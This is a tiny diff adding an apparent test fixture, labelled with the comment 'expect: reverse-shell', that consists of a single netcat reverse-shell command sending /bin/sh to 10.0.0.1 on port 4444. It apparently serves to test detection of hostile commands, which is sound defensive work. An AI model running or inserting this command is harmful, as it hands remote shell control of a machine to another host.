@@ -1,0 +1,2 @@
+# expect: reverse-shell
+nc -e /bin/sh 10.0.0.1 4444
